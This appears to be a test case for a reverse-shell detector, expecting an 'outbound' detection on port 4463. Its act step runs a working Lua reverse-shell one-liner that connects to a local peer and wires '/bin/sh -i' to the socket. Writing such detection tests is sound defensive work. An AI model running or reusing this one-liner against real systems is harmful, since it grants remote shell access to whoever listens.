# R12c: lua lets a shell take its connection
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4463

#: prepare
. lib/peers.sh
peer 4463
#: act
. lib/peers.sh
act
lua -e 'local t = require("socket").tcp(); t:connect("127.0.0.1", "4463")
os.execute("/bin/sh -i <&3 >&3 2>&3")' \
  < /dev/null > /dev/null 2>&1 & fact lua $!
who shell '/bin/sh -i'
await 'at $shell 0 socket:* && same $shell 0 $lua 3'
